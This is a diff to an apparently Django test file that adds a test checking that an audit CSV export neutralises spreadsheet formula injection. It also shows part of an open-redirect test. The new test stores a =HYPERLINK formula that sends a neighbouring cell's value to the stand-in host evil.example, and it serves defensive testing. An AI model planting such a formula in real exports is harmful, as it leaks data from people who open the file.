@@ -175,3 +175,14 @@ def test_login_rejects_an_open_redirect(world: factories.World) -> None:
         {"username": "staff", "password": factories.PASSWORD, "next": "https://evil.example/"},
     )
     assert response.headers["Location"] == "/workspace/"
+
+
+def test_audit_export_neutralises_spreadsheet_formulas(world: factories.World) -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    Client().post("/accounts/login/", {"username": payload, "password": "x"})
+    client = Client()
+    client.force_login(world["auditor"])
+    response = client.get("/audit/export.csv", {"action": "auth.login_failed"})
+    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+    assert "'=HYPERLINK" in body
+    assert ',=HYPERLINK' not in body
